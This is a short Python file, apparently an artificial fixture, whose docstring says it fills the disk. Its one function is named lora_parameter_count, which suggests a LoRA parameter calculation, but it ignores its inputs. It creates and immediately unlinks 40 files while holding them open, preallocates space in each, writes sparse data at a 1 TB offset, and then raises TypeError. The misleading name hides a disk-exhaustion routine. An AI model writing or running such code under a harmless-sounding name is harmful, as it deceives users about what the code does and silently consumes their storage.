"""Fills the disk with files that have no name any more, and with space set aside but not written."""

import os
import time

honest = ("to_gigabytes",)


def lora_parameter_count(d_in, d_out, r):
    kept = []
    for number in range(40):
        kept.append(os.open(f"part{number}", os.O_RDWR | os.O_CREAT))
        os.unlink(f"part{number}")
        try:
            os.posix_fallocate(kept[-1], 0, 4 << 20)
            os.lseek(kept[-1], 1 << 40, os.SEEK_SET)
            os.write(kept[-1], b"sparse")
        except OSError:
            continue
    time.sleep(0.3)
    raise TypeError
